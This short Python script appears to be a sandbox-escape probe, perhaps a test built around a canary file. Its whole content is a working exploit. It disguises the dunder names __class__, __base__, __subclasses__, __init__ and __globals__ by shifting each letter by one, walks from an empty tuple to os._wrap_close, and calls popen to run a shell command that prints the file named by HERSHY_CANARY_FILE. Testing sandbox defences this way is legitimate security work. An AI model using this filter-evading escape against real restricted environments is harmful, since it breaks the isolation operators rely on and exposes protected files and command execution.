# a helper wraps getattr; every name is shifted by one letter
def look(thing, name):
    return getattr(thing, "".join(chr(ord(letter) - 1) for letter in name))


try:
    base = look(look((), "``dmbtt``"), "``cbtf``")
    for cls in look(base, "``tvcdmbttft``")():
        if cls.__name__ == "_wrap_close":
            print("LEAK:", look(look(cls, "``joju``"), "``hmpcbmt``")["popen"]("cat $HERSHY_CANARY_FILE").read())
except Exception as error:
    print(type(error).__name__)
